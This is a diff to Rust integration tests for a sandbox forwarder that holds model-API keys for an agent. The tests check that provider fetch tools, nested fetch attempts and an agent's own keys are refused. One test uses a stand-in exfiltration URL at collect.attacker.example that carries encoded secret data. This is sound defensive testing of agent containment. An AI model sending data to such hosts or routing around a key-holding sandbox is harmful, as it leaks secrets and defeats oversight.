@@ -75,21 +75,17 @@ async fn the_forwarder_sends_the_key_under_the_base_path_alone() -> anyhow::Resu
     Ok(())
 }
 
-/// The three model APIs, as the mock API serves them, with a held key each.
-const APIS: [(&str, &str, &str); 3] = [
-    ("anthropic", "api.anthropic.com", "15101"),
-    ("openai", "api.openai.com", "15102"),
-    ("gemini", "generativelanguage.googleapis.com", "15103"),
-];
+/// Every model API whose key sandbox-init holds (its table, not a list of the tests'), as the
+/// mock API serves them: name, host, the forwarder's port.
+fn apis() -> impl Iterator<Item = (&'static str, &'static str, String)> {
+    sandbox_init::apis::APIS.iter().map(|api| (api.name, api.host, api.port.to_string()))
+}
 
-/// A sandbox holding a key for each of the three APIs, answered by the mock API, with
-/// `drop_in` as a policy of its own too; and the mock.
-async fn three_apis(
-    test: &str,
-    drop_in: &str,
-) -> anyhow::Result<(TestNet, Peer, Sandbox, tempfile::TempDir)> {
+/// A sandbox holding a key for each of the APIs, answered by the mock API, with `drop_in` as a
+/// policy of its own too; and the mock.
+async fn every_api(test: &str, drop_in: &str) -> anyhow::Result<(TestNet, Peer, Sandbox, tempfile::TempDir)> {
     let net = TestNet::create(test).await?;
-    let hosts: Vec<&str> = APIS.iter().map(|(_, host, _)| *host).collect();
+    let hosts: Vec<&str> = apis().map(|(_, host, _)| host).collect();
     let mock = Peer::start_mock_api(&net, &hosts).await?;
     let dir = tempfile::tempdir()?;
     let names: String = hosts.iter().map(|h| format!("  - {h}\n")).collect();
@@ -100,7 +96,7 @@ async fn three_apis(
         .drop_in("apis.yaml", &format!("version: 1\ndomains:\n{names}"))
         .drop_in("settings.yaml", drop_in)
         .mount(&ca_secret_file(dir.path())?, "/run/secrets/sandbox_api_ca.pem");
-    for (api, _, _) in APIS {
+    for (api, _, _) in apis() {
         let file = secret_file(dir.path(), &format!("{api}_key"), &format!("{KEY}-{api}"))?;
         spec = spec.mount(&file, &format!("/run/secrets/{api}_api_key"));
     }
@@ -140,13 +136,22 @@ fn fetching_request(api: &str) -> (&'static str, String, String) {
             ),
             r#"{"model":"m","input":"hi"}"#.into(),
         ),
-        _ => (
+        // Mistral's chat takes a document by its link, which the provider fetches.
+        "mistral" => (
+            "/v1/chat/completions",
+            format!(
+                r#"{{"model":"m","messages":[{{"role":"user","content":[{{"type":"text","text":"hi"}},{{"type":"document_url","document_url":"{url}"}}]}}]}}"#
+            ),
+            r#"{"model":"m","messages":[{"role":"user","content":"hi"}]}"#.into(),
+        ),
+        "gemini" => (
             "/v1beta/models/m:streamGenerateContent",
             format!(
                 r#"{{"contents":[{{"parts":[{{"text":"read {url}"}}]}}],"tools":[{{"url_context":{{}}}}]}}"#
             ),
             r#"{"contents":[{"parts":[{"text":"hi"}]}]}"#.into(),
         ),
+        other => panic!("a new API, {other}: add its fetching request here"),
     }
 }
 
@@ -159,17 +164,17 @@ fn fetching_request(api: &str) -> (&'static str, String, String) {
 #[tokio::test]
 async fn the_apis_own_fetch_tools_are_refused_by_the_forwarder() -> anyhow::Result<()> {
     let (_net, mock, sb, _dir) =
-        three_apis("attack-fwd-tools", "version: 1\napis:\n  gemini:\n    remote_tools: allow\n").await?;
-    for (api, host, port) in APIS {
+        every_api("attack-fwd-tools", "version: 1\napis:\n  gemini:\n    remote_tools: allow\n").await?;
+    for (api, host, port) in apis() {
         let (path, fetching, plain) = fetching_request(api);
-        let (status, why) = post(&sb, port, path, &fetching).await?;
+        let (status, why) = post(&sb, &port, path, &fetching).await?;
         if api == "gemini" {
             assert!(status.starts_with("HTTP/1.1 200"), "{api}, allowed by the policy: {status} {why}");
         } else {
             assert!(status.starts_with("HTTP/1.1 403"), "{api}: {status} {why}");
             assert!(why.contains("remote_tools: allow"), "{api}: {why}");
         }
-        let (status, _) = post(&sb, port, path, &plain).await?;
+        let (status, _) = post(&sb, &port, path, &plain).await?;
         assert!(status.starts_with("HTTP/1.1 200"), "{api}: {status}");
         let log = mock.log().await?;
         let reached: Vec<&String> = log.iter().filter(|l| l.contains(&format!("host={host} "))).collect();
@@ -188,7 +193,7 @@ async fn the_apis_own_fetch_tools_are_refused_by_the_forwarder() -> anyhow::Resu
 /// it. The control: the plain request passes.
 #[tokio::test]
 async fn fetches_nested_in_a_batch_a_link_or_an_upload_are_refused_too() -> anyhow::Result<()> {
-    let (_net, mock, sb, _dir) = three_apis("attack-fwd-nested", "version: 1\nallow: none\n").await?;
+    let (_net, mock, sb, _dir) = every_api("attack-fwd-nested", "version: 1\nallow: none\n").await?;
     let url = "https://collect.attacker.example/?d=c2VjcmV0";
     let attacks = [
         (
@@ -249,8 +254,8 @@ async fn fetches_nested_in_a_batch_a_link_or_an_upload_are_refused_too() -> anyh
 /// key does.
 #[tokio::test]
 async fn the_agent_cannot_bring_its_own_key_to_a_held_apis_host() -> anyhow::Result<()> {
-    let (_net, mock, sb, _dir) = three_apis("attack-fwd-own-key", "version: 1\nallow: none\n").await?;
-    for (_, host, _) in APIS {
+    let (_net, mock, sb, _dir) = every_api("attack-fwd-own-key", "version: 1\nallow: none\n").await?;
+    for (_, host, _) in apis() {
         let own = sb.probe(&["tcp", host, "443", "--tls"]).await?;
         assert_eq!(own.outcome(), "reset", "{host}: {:?}", own.fields);
         let address = own.fields["address"].clone();
